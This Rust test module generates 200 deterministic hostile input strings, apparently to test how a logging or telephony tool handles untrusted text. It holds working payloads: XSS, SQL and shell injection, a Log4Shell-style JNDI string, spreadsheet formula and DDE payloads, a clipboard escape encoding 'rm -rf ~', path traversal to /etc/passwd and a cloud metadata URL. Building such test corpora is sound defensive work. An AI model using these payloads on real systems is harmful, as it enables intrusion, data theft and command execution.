//! Strings that a caller could send to do harm where they are shown, written down or passed on.

use std::collections::BTreeSet;

/// Number of them.
pub(super) const COUNT: usize = 200;

/// Seed of the mixtures.
const SEED: u64 = 0x0bad_ca11;

/// The length of the long ones.
const LONG_BYTES: usize = 64 * 1024;

/// Pieces of each kind of harm; everything stands alone as well as within mixtures.
const PIECES: &[&[&[u8]]] = &[
    // Ends of lines, with what would be a line of a log, a header or an action of a manager after it.
    &[
        b"Ann\r\nX-Injected: yes",
        b"Ann\nERROR hookswitch: forged=true the store is lost",
        b"Ann\rForged",
        b"Ann\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
        b"Ann\r\nAction: Originate\r\nChannel: PJSIP/900\r\n\r\n",
        b"Ann\n\nauth ClueCon\n\n",
        b"Ann\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
        b"Ann\x0bForged\x0cForged",
        "Ann\u{85}Forged".as_bytes(),
        "Ann\u{2028}Forged\u{2029}Forged".as_bytes(),
    ],
    // Octets that end strings, ring, move back or delete.
    &[
        b"Ann\0Lee",
        b"\0",
        b"Ann\x07\x07",
        b"Ann\x08\x08\x08Bob",
        b"Ann\x7f\x7f\x7f",
        b"\x01\x02\x03\x04\x1a\x1c\x1f",
        b"Ann\tLee",
    ],
    // What a terminal obeys: colours, cleared screens, titles, links, the clipboard, answers as if typed.
    &[
        b"\x1b[31mred\x1b[0m",
        b"\x1b[2J\x1b[H",
        b"\x1b[1A\x1b[2Kgone",
        b"\x1b]0;title\x07",
        b"\x1b]8;;http://127.0.0.1/\x1b\\link\x1b]8;;\x1b\\",
        b"\x1b]52;c;cm0gLXJmIH4=\x07",
        b"\x1bP$q\"p\x1b\\",
        b"\x1b[6n\x1b[c",
        b"\x1bc",
        b"\x1b[?1049h",
        "\u{9b}31mred\u{9b}0m".as_bytes(),
        "\u{9d}0;title\u{9c}".as_bytes(),
        b"\x9b31mred",
    ],
    // Text that is read in another order than it stands, or is not seen at all.
    &[
        "Ann\u{202e}eeL".as_bytes(),
        "\u{202a}Ann\u{202b}Lee\u{202c}".as_bytes(),
        "\u{2066}Ann\u{2067}Lee\u{2068}Bob\u{2069}".as_bytes(),
        "\u{200e}\u{200f}\u{61c}".as_bytes(),
        "An\u{200b}n\u{200d}\u{2060}\u{feff}Lee".as_bytes(),
        "\u{e0041}\u{e006e}\u{e006e}".as_bytes(),
        "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}alg\u{30d}o".as_bytes(),
        "\u{ffff}\u{fdd0}\u{10ffff}".as_bytes(),
    ],
    // What is no UTF-8.
    &[
        b"Ann \xff\xfe",
        b"\xc0\xaf",
        b"Ann \xc3",
        b"\xed\xa0\x80\xed\xb0\x80",
        b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80",
        b"M\xfcller",
        b"\x80\x80\x80",
    ],
    // What a page would run.
    &[
        b"<script>alert(1)</script>",
        b"</script><script>alert(1)</script>",
        b"<img src=x onerror=alert(1)>",
        b"<svg/onload=alert(1)>",
        b"\"><script src=//example.invalid/x.js></script>",
        b"' onmouseover='alert(1)",
        b"javascript:alert(1)",
        b"<iframe srcdoc=\"<script>alert(1)</script>\">",
        b"<style>*{display:none}</style>",
        b"<a href=\"javascript:alert(1)\">Ann</a>",
        b"<!--",
        b"]]><b>",
        b"&lt;script&gt;alert(1)&lt;/script&gt;",
        b"&#x1b;[2J",
        b"<form action=//example.invalid><input name=q>",
        b"<meta http-equiv=refresh content=\"0;url=//example.invalid\">",
    ],
    // What a template or a logger would work out.
    &[
        b"{{7*7}}",
        b"{{constructor.constructor('alert(1)')()}}",
        b"${7*7}",
        b"${jndi:ldap://example.invalid/a}",
        b"<%= 7*7 %>",
        b"#{7*7}",
        b"{}{:?}{0}",
        b"%s%n%x%x%x",
        b"%0d%0aX-Injected:%20yes",
        b"\\r\\nForged\\u001b[2J",
        b"__proto__",
    ],
    // What a table would reckon.
    &[
        b"=1+1",
        b"=HYPERLINK(\"http://example.invalid\",\"Ann\")",
        b"+1+1",
        b"-1+1",
        b"@SUM(1+1)",
        b"\t=1+1",
        b"=cmd|' /C calc'!A0",
    ],
    // What ends a quotation.
    &[
        b"\"",
        b"'",
        b"`",
        b"\\",
        b"\\\"",
        b"\"\"\"",
        b"'; DROP TABLE events; --",
        b"\" OR \"\"=\"",
        b"`id`",
        b"$(id)",
        b"; id #",
        b"| id",
        b"\",\"injected\":true,\"x\":\"",
        b"\" <sip:900@example.invalid>;tag=forged",
        b"Ann\" forged=\"yes",
    ],
    // What a path or an address could be.
    &[
        b"../../../../etc/passwd",
        b"..\\..\\..\\windows",
        b"file:///etc/passwd",
        b"http://169.254.169.254/latest/meta-data",
        b"CON",
        b"/dev/null",
    ],
    // What is nothing, or is taken for something else.
    &[
        b" ",
        b"null",
        b"undefined",
        b"NaN",
        b"-1",
        b"18446744073709551616",
        b"true",
        b"anonymous",
        b"%",
        b"%00",
    ],
];

/// All of them, always the same and all different, the long ones last.
///
/// They are bytes: some are no UTF-8.
pub(super) fn strings() -> Vec<Vec<u8>> {
    let mut random = fastrand::Rng::with_seed(SEED);
    let mut all: Vec<Vec<u8>> = PIECES.iter().copied().flatten().map(|piece| piece.to_vec()).collect();
    let long: [&[u8]; 8] = [b"A", b"\0", b"\x1b[2J", b"<b>", b"\"", b"\r\n", "\u{202e}".as_bytes(), b"\xff"];
    while all.len() < COUNT - long.len() {
        let mut mixed = b"Ann".to_vec();
        for _ in 0..random.usize(2..5) {
            let kind = PIECES[random.usize(..PIECES.len())];
            mixed.extend_from_slice(kind[random.usize(..kind.len())]);
        }
        all.push(mixed);
    }
    all.extend(long.map(|piece| piece.iter().copied().cycle().take(LONG_BYTES).collect()));
    all
}

#[test]
fn there_are_two_hundred_hostile_strings_of_every_kind() {
    let all = strings();
    assert_eq!(all.len(), COUNT);
    assert_eq!(all, strings(), "they are the same each time");
    assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), COUNT, "they are all different");
    for octet in [b"\r", b"\n", b"\0", b"\x1b", b"<", b"{", b"=", b"\"", b"'", b"`"] {
        assert!(all.iter().any(|string| string.contains(&octet[0])), "{octet:?}");
    }
    for text in ["\u{2028}", "\u{202e}"] {
        assert!(
            all.iter().any(|string| std::str::from_utf8(string).is_ok_and(|string| string.contains(text)))
        );
    }
    assert!(all.iter().any(|string| std::str::from_utf8(string).is_err()));
    assert!(all.iter().any(|string| string.len() == LONG_BYTES));
}
